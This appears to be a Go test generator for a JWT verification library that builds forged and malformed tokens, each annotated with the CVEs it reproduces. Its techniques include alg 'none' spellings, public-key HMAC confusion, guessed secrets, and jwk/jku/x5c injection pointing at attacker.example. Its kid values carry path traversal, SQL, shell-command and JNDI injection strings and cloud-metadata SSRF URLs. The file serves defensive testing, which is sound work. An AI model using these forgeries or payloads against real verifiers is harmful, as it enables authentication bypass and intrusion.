package attack

import (
	"crypto/ecdsa"
	"crypto/rsa"
	"encoding/base64"
	"strings"

	"github.com/mcpauth-go/mcpauth/internal/tokentest"
)

// algNone is the first attack there was: a token that says it is not signed
// (RFC 7515, appendix A.5).
func (g *generator) algNone() {
	const why = "an unsecured token passes where a verifier believes its alg: CVE-2015-9235 (jsonwebtoken), CVE-2021-22160 (Pulsar), CVE-2022-23540 (jsonwebtoken), CVE-2023-29357 (SharePoint); and spellings that a blocklist misses"
	for _, alg := range []string{
		`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `"NoNe"`, `"nonE"`, `"none "`, `" none"`, `"none\u0000"`, `"\u006eone"`, `"none\n"`, `"ｎｏｎｅ"`, `"nоne"`,
		`""`, `"null"`, `"undefined"`, `"plain"`, `"unsecured"`,
	} {
		s := g.pick()
		unsigned := tokentest.Encode(s.header("alg", alg)) + "." + tokentest.Encode(s.claims()) + "."
		g.add("alg "+alg+", no signature", unsigned, why)
		if strings.EqualFold(alg, `"none"`) {
			g.add("alg "+alg+", any signature", unsigned+tokentest.Encode(string(g.bytes(32))), why)
			g.add("alg "+alg+", a key's signature", s.sign(s.header("alg", alg), s.claims()), why)
			g.add("alg "+alg+", no kid, no signature", tokentest.Encode(`{"alg":`+alg+`}`)+"."+tokentest.Encode(s.claims())+".", why)
			g.add("alg "+alg+", no last dot", strings.TrimSuffix(unsigned, "."), why)
		}
	}
}

// algValue spoils the parameter itself, under a good signature.
func (g *generator) algValue() {
	const why = "alg must be a string (RFC 7515, section 4.1.1) and one that is known exactly; what a parser makes of anything else is an accident: CVE-2019-17195 (Nimbus, uncaught exceptions)"
	for _, alg := range []string{"", "null", "true", "false", "0", "256", "[]", `["none"]`, "{}", `{"name":"none"}`} {
		s := g.pick()
		name := alg
		if alg == "" {
			name = "missing"
		}
		g.add(name, s.sign(s.header("alg", alg), s.claims()), why)
	}
	s := g.pick()
	g.add("an array of the right one", s.sign(s.header("alg", `["`+s.key.Algorithm+`"]`), s.claims()), why)
	for _, alg := range []string{strings.ToLower(s.key.Algorithm) + "x", " " + s.key.Algorithm, s.key.Algorithm + " ", s.key.Algorithm + "\x00", s.key.Algorithm + "\n", "x" + s.key.Algorithm} {
		g.add("the right one spoilt: "+quote(alg), s.sign(s.header("alg", quote(alg)), s.claims()), why)
	}
	for _, s := range g.signers("HS", "RS", "PS", "ES") {
		g.add("lower case "+s.label(), s.sign(s.header("alg", quote(strings.ToLower(s.key.Algorithm))), s.claims()), why)
	}
	for _, s := range g.signers("Ed") {
		for _, alg := range []string{"EDDSA", "eddsa", "ed25519", "Ed448", "Ed25519ph"} {
			g.add(alg+" by "+s.label(), s.sign(s.header("alg", quote(alg)), s.claims()), why)
		}
	}
	for _, alg := range []string{"HS1", "HS2", "MD5", "RS1", "PS1", "ES1", "ES256K", "SHA256", "A128KW", "A256GCM", "dir", "RSA-OAEP", "RSA1_5", "ECDH-ES", "PBES2-HS256+A128KW", "HMAC", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", "ML-DSA-44"} {
		s := g.pick()
		g.add("unknown "+alg, s.sign(s.header("alg", quote(alg)), s.claims()), "an algorithm of another kind, or one that is withdrawn")
	}
}

// algConfusion takes public keys, which everybody has, for shared secrets.
func (g *generator) algConfusion() {
	const why = "the public key as the secret of an HMAC, for a verifier that lets the token choose the algorithm: CVE-2015-9235 (jsonwebtoken), CVE-2016-5431 (php JOSE), CVE-2016-10555 (jwt-simple), CVE-2017-11424 and CVE-2022-29217 (PyJWT), CVE-2023-48223 (fast-jwt), CVE-2023-48238 (json-web-token), CVE-2024-33663 (python-jose), CVE-2024-37568 (Authlib), CVE-2024-54150 (cjwt), CVE-2026-22817 (Hono), CVE-2026-34950 (fast-jwt)"
	for _, s := range g.signers("RS", "PS", "ES", "Ed") {
		for _, form := range s.key.publicForms() {
			k := Key{Algorithm: "HS256", Private: form.data}
			g.add("HS256 with the "+form.name+" of "+s.label(), sign(k, s.header("alg", `"HS256"`), s.claims()), why)
		}
		for _, alg := range []string{"HS384", "HS512"} {
			k := Key{Algorithm: alg, Private: s.key.material().PEM()}
			g.add(alg+" with the PEM of "+s.label(), sign(k, s.header("alg", quote(alg)), s.claims()), why)
		}
		k := Key{Algorithm: "HS256", Private: s.key.material().PEM()}
		g.add("HS256 with the PEM of "+s.label()+", no kid", sign(k, s.header("alg", `"HS256"`, "kid", ""), s.claims()), why)
		// The issuer that has secrets is another.
		for _, other := range g.signers("HS") {
			k := Key{Algorithm: other.key.Algorithm, Private: k.Private}
			g.add("PEM of "+s.label()+", in the name of "+other.label(), sign(k, other.header(), other.claims()), why)
		}
	}
}

// algSwap uses the right key with an algorithm that is not the key's.
func (g *generator) algSwap() {
	const why = "a key serves one algorithm (RFC 8725, section 3.1): a verifier that allows several per key falls with the weakest; CVE-2022-23541 (jsonwebtoken)"
	for _, s := range g.signers("HS", "RS", "PS", "ES") {
		own := s.key.Algorithm
		kinds := []string{own[:2]}
		if own[:2] == "RS" || own[:2] == "PS" {
			kinds = []string{"RS", "PS"}
		}
		for _, kind := range kinds {
			for _, bits := range []string{"256", "384", "512"} {
				alg := kind + bits
				if alg == own {
					continue
				}
				// Signed and said to be another, and only said to be.
				header := s.header("alg", quote(alg))
				g.add("signed as "+alg+" by "+s.label(), s.forge(header, func(in string) []byte { return s.key.signAs(alg, in) }), why)
				g.add("signed as "+alg+", no kid, by "+s.label(), s.forge(s.header("alg", quote(alg), "kid", ""), func(in string) []byte { return s.key.signAs(alg, in) }), why)
				g.add("said to be "+alg+" by "+s.label(), s.forge(header, s.key.Sign), why)
				g.add("signed as "+alg+", said to be "+own+" by "+s.label(), s.forge(s.header(), func(in string) []byte { return s.key.signAs(alg, in) }), why)
			}
		}
	}
	for _, s := range g.signers("Ed") {
		for _, alg := range []string{"ES256", "HS512", "PS512"} {
			g.add("said to be "+alg+" by "+s.label(), s.sign(s.header("alg", quote(alg)), s.claims()), why)
		}
	}
}

func (g *generator) guessedSecret() {
	last := -1
	for _, s := range g.signers() {
		alg := s.key.Algorithm
		if alg[:2] != "HS" {
			if s.index == last {
				continue
			}
			alg = "HS256" // for a verifier that takes it nevertheless
		}
		last = s.index
		for _, guess := range []struct{ name, secret string }{
			{"empty", ""}, {"one NUL", "\x00"}, {"32 NULs", strings.Repeat("\x00", 32)}, {"secret", "secret"}, {"password", "password"}, {"changeme", "changeme"},
			{"null", "null"}, {"undefined", "undefined"}, {"[object Object]", "[object Object]"}, {"the issuer", s.issuer.Name}, {"the audience", s.issuer.Audience}, {"the kid", s.key.ID},
			{"that of jwt.io", "a-string-secret-at-least-256-bits-long"}, {"that of Supabase", "super-secret-jwt-token-with-at-least-32-characters-long"},
		} {
			k := Key{Algorithm: alg, Private: []byte(guess.secret)}
			g.add(guess.name+" for "+s.label(), sign(k, s.header("alg", quote(alg)), s.claims()), "a secret that is empty or known: CVE-2019-20933 (InfluxDB)")
		}
	}
}

// foreignKey signs with a good key, but not with the one that may.
func (g *generator) foreignKey() {
	all := g.signers()
	for _, s := range all {
		stranger := attacker(s.key.Algorithm, s.key.ID)
		g.add("a stranger's under the kid of "+s.label(), sign(stranger, s.header(), s.claims()), "a signature by a key that is nobody's")
		g.add("a stranger's without kid for "+s.label(), sign(stranger, s.header("kid", ""), s.claims()), "a signature by a key that is nobody's")
		for _, other := range all {
			switch {
			case other.index != s.index:
				const why = "one trusted issuer makes tokens in the name of another; keys belong to their issuer: CVE-2024-5037 (OpenShift telemeter), CVE-2018-15801 (Spring Security)"
				from := other.label() + " in the name of " + s.label()
				g.add(from+", its own kid", sign(other.key, other.header(), s.claims()), why)
				g.add(from+", the other's kid", sign(other.key, other.header("kid", quote(s.key.ID)), s.claims()), why)
				g.add(from+", no kid", sign(other.key, other.header("kid", ""), s.claims()), why)
				g.add(from+", iss twice", sign(other.key, other.header(), tokentest.With(s.claims(), `"iss":`+quote(other.issuer.Name))), why)
			case other.key.ID != s.key.ID && other.key.ID != "" && s.key.ID != "":
				const why = "a key under the id of another of its issuer, to get at that one's algorithm"
				g.add(other.label()+" as kid "+s.key.ID, sign(other.key, other.header("kid", quote(s.key.ID)), s.claims()), why)
			}
		}
	}
}

// keyInHeader brings the key along.
func (g *generator) keyInHeader() {
	const why = "a key, or a link to one, in the token is the sender's own: CVE-2018-0114 (node-jose), CVE-2020-0601 (Windows, x5c), CVE-2024-21643 (IdentityModel, jku), CVE-2026-27962 (Authlib)"
	for _, s := range g.signers() {
		k := attacker(s.key.Algorithm, s.key.ID)
		x5c := `["` + base64.StdEncoding.EncodeToString(tokentest.Ed25519("certificate").DER()) + `"]`
		if _, secret := k.Private.([]byte); !secret {
			x5c = `["` + base64.StdEncoding.EncodeToString(k.material().DER()) + `"]`
		}
		for _, header := range []struct{ name, members string }{
			{"jwk", `"jwk":` + k.jwk()},
			{"jku", `"jku":"https://attacker.example/jwks.json"`},
			{"jku of the issuer with userinfo", `"jku":` + quote(s.issuer.Name+"@attacker.example/jwks.json")},
			{"x5c", `"x5c":` + x5c},
		} {
			g.add(header.name+" with the kid of "+s.label(), sign(k, tokentest.With(s.header(), header.members), s.claims()), why)
			if header.name == "jwk" {
				g.add("jwk without kid for "+s.label(), sign(k, tokentest.With(s.header("kid", ""), header.members), s.claims()), why)
			}
		}
	}
	for _, members := range []string{
		`"jwk":{"kty":"oct","k":""}`, `"jwk":{"kty":"oct","k":"AA"}`, `"jwk":{"kty":"EC","crv":"P-256","x":"","y":""}`, `"jwk":null`, `"jwk":[]`, `"jwk":{}`, `"jwk":"https://attacker.example/jwk"`,
		`"jku":"file:///etc/passwd"`, `"jku":"http://127.0.0.1/jwks"`, `"jku":"http://169.254.169.254/latest/meta-data/"`, `"jku":["https://attacker.example/"]`, `"jku":"data:application/json,{}"`,
		`"x5u":"https://attacker.example/cert.pem"`, `"x5u":"ldap://attacker.example/"`, `"x5t":"AAAA"`, `"x5t#S256":"AAAA"`, `"x5c":[]`, `"x5c":["AAAA"]`,
		`"iss":"https://attacker.example"`, `"epk":{"kty":"EC"}`, `"apu":"AA"`,
	} {
		s := g.pick()
		g.add(members, sign(attacker(s.key.Algorithm, "attacker"), tokentest.With(s.header(), members), s.claims()), why)
	}
}

// crit names extensions that nobody understands, under a good signature.
func (g *generator) crit() {
	const why = "a verifier must refuse what it does not understand (RFC 7515, section 4.1.11): CVE-2025-59420 (Authlib), CVE-2026-32597 (PyJWT)"
	for _, members := range []string{
		`"crit":["exp"],"exp":1`, `"crit":["exp"]`, `"crit":[]`, `"crit":null`, `"crit":"exp"`, `"crit":{}`, `"crit":{"exp":1}`, `"crit":1`, `"crit":true`, `"crit":[1]`, `"crit":[null]`, `"crit":[""]`,
		`"crit":["alg"]`, `"crit":["kid"]`, `"crit":["crit"]`, `"crit":["x"],"x":1`, `"crit":["x","x"],"x":1`, `"crit":["http://example.com/ext"],"http://example.com/ext":true`, `"crit":["b64"],"b64":true`,
		`"crit":["b64"],"b64":false`, `"crit":["cnf"],"cnf":{}`, `"crit":["bork"],"bork":"x"`, `"crit":[["b64"]]`, `"cr\u0069t":["x"],"x":1`,
	} {
		s := g.pick()
		g.add(members, s.sign(tokentest.With(s.header(), members), s.claims()), why)
	}
	// RFC 7797: the payload itself, not its encoding, is signed.
	s := g.pick()
	header := tokentest.Encode(tokentest.With(s.header(), `"b64":false,"crit":["b64"]`))
	g.add("an unencoded payload", signText(s.key, header, "victim"), "RFC 7797, which this verifier does not offer")
	payload := tokentest.Encode(s.claims())
	g.add("the encoded payload, signed decoded", header+"."+payload+"."+tokentest.Encode(string(s.key.Sign(header+"."+tokentest.Decode(payload)))), "RFC 7797, which this verifier does not offer")
}

// kid puts into the key's id what somebody may look up in a file or a
// database.
func (g *generator) kid() {
	for _, kid := range []string{
		"../../../../../../dev/null", "/dev/null", "../../../../proc/sys/kernel/randomize_va_space", "file:///dev/null", "C:\\Windows\\win.ini", "..\\..\\..\\windows\\win.ini",
		"' UNION SELECT 'AA' --", "x' OR '1'='1", `"; DROP TABLE keys; --`, "| whoami", "$(id)", "`id`", "; sleep 10 #", "key\x00", "\x00", "a\r\nSet-Cookie: x=1", "*", "*)(uid=*", "{{7*7}}", "${jndi:ldap://attacker.example/a}",
		"https://attacker.example/jwks.json", "http://169.254.169.254/", "__proto__", "constructor", "toString", "", " ", "0", "-1", "null", "undefined", "%00", "%2e%2e%2fkey",
		strings.Repeat("k", 4000), strings.Repeat("../", 1000) + "dev/null",
	} {
		s := g.pick()
		name := kid
		if len(name) > 60 {
			name = name[:60] + "…"
		}
		const why = "the kid is the sender's text, and goes into no path, query, command or prototype (RFC 8725, section 3.10); CVE-2024-34273 (njwt, __proto__)"
		g.add("a stranger's "+quote(name), sign(attacker(s.key.Algorithm, ""), s.header("kid", quote(kid)), s.claims()), why)
	}
	// What those files and queries would give as a secret.
	for _, found := range []struct{ kid, secret string }{{"../../../../../../dev/null", ""}, {"' UNION SELECT 'AA' --", "AA"}, {"../../../../proc/sys/kernel/randomize_va_space", "2\n"}} {
		s := g.pick()
		k := Key{Algorithm: "HS256", Private: []byte(found.secret)}
		g.add("HS256 with what comes of "+found.kid, sign(k, s.header("alg", `"HS256"`, "kid", quote(found.kid)), s.claims()), "a file or a row of known content as the secret")
	}
	const why = "a good signature under an id that no key has exactly, or that is no string"
	for _, s := range g.signers() {
		if s.key.ID == "" {
			continue // such a key is tried whatever a token says
		}
		for _, kid := range []string{strings.ToUpper(s.key.ID), s.key.ID + " ", s.key.ID + "\x00", s.key.ID + "/../" + s.key.ID, "", "unknown"} {
			g.add("the id spoilt, "+quote(kid)+" for "+s.label(), s.sign(s.header("kid", quote(kid)), s.claims()), why)
		}
		g.add("an array of the id, "+s.label(), s.sign(s.header("kid", `[`+quote(s.key.ID)+`]`), s.claims()), why)
	}
	for _, kid := range []string{"null", "true", "1", "1.5", "[]", "{}", `{"$ne":null}`, `{"$gt":""}`} {
		s := g.pick()
		g.add(kid, s.sign(s.header("kid", kid), s.claims()), why)
	}
}

// typ says that the token is of another kind (RFC 8725, section 3.11).
func (g *generator) typ() {
	for _, typ := range []string{
		`"id+jwt"`, `"ID+JWT"`, `"id_token+jwt"`, `"logout+jwt"`, `"dpop+jwt"`, `"secevent+jwt"`, `"JOSE"`, `"JOSE+JSON"`, `"JWE"`, `"JWS"`, `"application/jwt"`, `"rt+jwt"`, `"refresh"`, `"Refresh"`,
		`"client-authentication+jwt"`, `"oauth-authz-req+jwt"`, `"token-introspection+jwt"`, `"entity-statement+jwt"`, `"vc+sd-jwt"`, `"dc+sd-jwt"`, `"kb+jwt"`, `"openid4vci-proof+jwt"`, `"wallet-attestation+jwt"`, `"sd-jwt"`, `"passport"`,
		`"at+jwt "`, `" JWT"`, `"JWT\u0000"`, `"at-jwt"`, `"at+jwt;charset=utf-8"`, `"text/at+jwt"`, `"application/at+jwt\n"`, `"xat+jwt"`, `""`, "null", "1", "true", `["JWT"]`, `["at+jwt"]`, `{"typ":"JWT"}`, "{}",
	} {
		s := g.pick()
		g.add(typ, s.sign(s.header("typ", typ), s.claims()), "a good token of the issuer, for another purpose (RFC 8725, sections 2.8 and 3.12; RFC 9068, section 4)")
	}
}

func (s signer) rsa() *rsa.PrivateKey     { return s.key.Private.(*rsa.PrivateKey) }
func (s signer) ecdsa() *ecdsa.PrivateKey { return s.key.Private.(*ecdsa.PrivateKey) }
